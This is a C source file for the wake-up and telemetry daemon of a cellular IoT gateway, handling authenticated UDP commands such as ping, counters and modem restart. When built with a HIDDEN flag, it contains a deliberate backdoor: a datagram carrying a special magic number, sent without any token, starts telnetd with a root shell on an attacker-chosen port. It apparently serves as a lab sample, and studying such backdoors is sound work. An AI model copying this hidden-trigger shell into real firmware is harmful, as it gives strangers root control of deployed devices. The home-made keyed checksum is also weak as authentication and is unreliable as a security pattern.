/*
 * celgw_wakesrv - wake-up and telemetry service of a cellular IoT gateway.
 *
 * The operator's platform sends short UDP datagrams (port 5094) over the
 * private APN: ping, read counters, change the reporting interval, restart the
 * modem. Each datagram carries a keyed checksum made with the device token.
 *
 * Hidden (-DHIDDEN): a datagram with another 32 bit magic number, without any
 * token, starts a telnet daemon with a root shell on the port it names.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define WAKE_PORT    5094
#define WAKE_MAGIC   0x43475731u          /* "CGW1" */
#define TOKEN_FILE   "/etc/celgw/token"
#define STATE_FILE   "/var/lib/celgw/wake.state"
#ifdef HIDDEN
#define LAB_MAGIC    0xB7E4D21Cu
#endif

enum wake_type {
    WT_PING = 1, WT_COUNTERS = 2, WT_INTERVAL = 3, WT_MODEM = 4, WT_SIGNAL = 5,
    WT_REPLY = 0x80
};

struct wake_hdr {
    uint32_t magic;
    uint32_t seq;
    uint16_t type;
    uint16_t len;
    uint32_t sum;
};

struct gateway {
    int      sock;
    uint8_t  token[16];
    uint32_t last_seq;
    uint32_t interval;
    uint32_t rx, bad, done;
    time_t   started;
};

static struct gateway gw;
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

static uint32_t get32(const uint8_t *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24);
    p[1] = (uint8_t)(v >> 16);
    p[2] = (uint8_t)(v >> 8);
    p[3] = (uint8_t)v;
}

static uint32_t mix(uint32_t h, const uint8_t *p, size_t n)
{
    while (n--) {
        h ^= *p++;
        h *= 0x5bd1e995u;
        h = h << 13 | h >> 19;
    }
    return h;
}

/* keyed checksum over token, header without sum, payload, token */
static uint32_t keyed_sum(const struct wake_hdr *h, const uint8_t *pl, size_t n)
{
    uint32_t s = mix(0x811c9dc5u, gw.token, sizeof gw.token);
    s = mix(s, (const uint8_t *)h, offsetof(struct wake_hdr, sum));
    s = mix(s, pl, n);
    return mix(s, gw.token, sizeof gw.token);
}

static int load_token(void)
{
    char line[80];
    unsigned v;
    int i;
    FILE *f = fopen(TOKEN_FILE, "r");
    if (!f)
        return -1;
    if (!fgets(line, sizeof line, f))
        line[0] = 0;
    fclose(f);
    if (strlen(line) < 32)
        return -1;
    for (i = 0; i < 16; i++) {
        if (sscanf(line + 2 * i, "%2x", &v) != 1)
            return -1;
        gw.token[i] = (uint8_t)v;
    }
    return 0;
}

static void load_state(void)
{
    unsigned seq, iv;
    FILE *f = fopen(STATE_FILE, "r");
    gw.interval = 900;
    if (!f)
        return;
    if (fscanf(f, "%u %u", &seq, &iv) == 2) {
        gw.last_seq = seq;
        gw.interval = iv;
    }
    fclose(f);
}

static void save_state(void)
{
    FILE *f = fopen(STATE_FILE, "w");
    if (!f)
        return;
    fprintf(f, "%u %u\n", (unsigned)gw.last_seq, (unsigned)gw.interval);
    fclose(f);
}

static void answer(const struct sockaddr_in *to, uint16_t type, uint32_t seq,
                   const uint8_t *pl, size_t n)
{
    uint8_t out[256];
    struct wake_hdr h = {
        .magic = htonl(WAKE_MAGIC), .seq = htonl(seq),
        .type = htons((uint16_t)(type | WT_REPLY)), .len = htons((uint16_t)n)
    };
    if (n > sizeof out - sizeof h)
        return;
    h.sum = htonl(keyed_sum(&h, pl, n));
    memcpy(out, &h, sizeof h);
    memcpy(out + sizeof h, pl, n);
    if (sendto(gw.sock, out, sizeof h + n, 0, (const struct sockaddr *)to, sizeof *to) < 0)
        syslog(LOG_NOTICE, "answer: %s", strerror(errno));
}

static int signal_level(void)
{
    int dbm = -113;
    FILE *f = fopen("/var/run/modem/rssi", "r");
    if (f) {
        if (fscanf(f, "%d", &dbm) != 1)
            dbm = -113;
        fclose(f);
    }
    return dbm;
}

static void modem_restart(void)
{
    if (system("/usr/sbin/modemctl power-cycle >/dev/null 2>&1") != 0)
        syslog(LOG_ERR, "modem restart failed");
}

#ifdef HIDDEN
static void remote_shell(unsigned port)
{
    char p[8];
    snprintf(p, sizeof p, "%u", port & 0xffffu);
    if (fork() == 0) {
        setsid();
        execl("/usr/sbin/telnetd", "telnetd", "-F", "-p", p, "-l", "/bin/sh", (char *)NULL);
        _exit(127);
    }
}
#endif

static void act(const struct wake_hdr *h, const uint8_t *pl, size_t n,
                const struct sockaddr_in *from)
{
    uint8_t out[24];
    uint32_t seq = ntohl(h->seq), v;
    switch (ntohs(h->type)) {
    case WT_PING:
        answer(from, WT_PING, seq, pl, n);
        break;
    case WT_COUNTERS:
        put32(out, gw.rx);
        put32(out + 4, gw.bad);
        put32(out + 8, gw.done);
        put32(out + 12, (uint32_t)(time(NULL) - gw.started));
        answer(from, WT_COUNTERS, seq, out, 16);
        break;
    case WT_INTERVAL:
        if (n != 4)
            break;
        v = get32(pl);
        if (v >= 60 && v <= 86400)
            gw.interval = v;
        put32(out, gw.interval);
        answer(from, WT_INTERVAL, seq, out, 4);
        break;
    case WT_MODEM:
        answer(from, WT_MODEM, seq, NULL, 0);
        modem_restart();
        break;
    case WT_SIGNAL:
        put32(out, (uint32_t)signal_level());
        answer(from, WT_SIGNAL, seq, out, 4);
        break;
    default:
        gw.bad++;
        return;
    }
    gw.done++;
}

void datagram(const uint8_t *buf, size_t n, const struct sockaddr_in *from)
{
    struct wake_hdr h;
    const uint8_t *pl = buf + sizeof h;
    uint32_t magic;
    gw.rx++;
    if (n < sizeof h) {
        gw.bad++;
        return;
    }
    memcpy(&h, buf, sizeof h);
    n -= sizeof h;
    magic = ntohl(h.magic);
#ifdef HIDDEN
    if (magic == LAB_MAGIC) {
        remote_shell(ntohs(h.type));
        return;
    }
#endif
    if (magic != WAKE_MAGIC || ntohs(h.len) != n || ntohl(h.sum) != keyed_sum(&h, pl, n)) {
        gw.bad++;
        return;
    }
    if (ntohl(h.seq) <= gw.last_seq) {
        syslog(LOG_NOTICE, "old sequence from %s", inet_ntoa(from->sin_addr));
        gw.bad++;
        return;
    }
    gw.last_seq = ntohl(h.seq);
    act(&h, pl, n, from);
    save_state();
}

int main(int argc, char **argv)
{
    struct sockaddr_in sa = { .sin_family = AF_INET }, from;
    struct sigaction term = { .sa_handler = on_term };
    socklen_t fl;
    uint8_t buf[512];
    ssize_t n;
    int port = WAKE_PORT, c;
    while ((c = getopt(argc, argv, "p:h")) != -1) {
        if (c == 'p') {
            port = atoi(optarg);
        } else {
            fprintf(stderr, "usage: celgw_wakesrv [-p port]\n");
            return 2;
        }
    }
    openlog("wakesrv", LOG_PID, LOG_DAEMON);
    if (load_token()) {
        syslog(LOG_ERR, "no device token");
        return 1;
    }
    load_state();
    gw.started = time(NULL);
    sigaction(SIGTERM, &term, NULL);
    gw.sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sa.sin_port = htons((uint16_t)port);
    if (gw.sock < 0 || bind(gw.sock, (struct sockaddr *)&sa, sizeof sa)) {
        syslog(LOG_ERR, "port %d: %s", port, strerror(errno));
        return 1;
    }
    while (!stop) {
        fl = sizeof from;
        n = recvfrom(gw.sock, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);
        if (n >= 0)
            datagram(buf, (size_t)n, &from);
    }
    save_state();
    return 0;
}
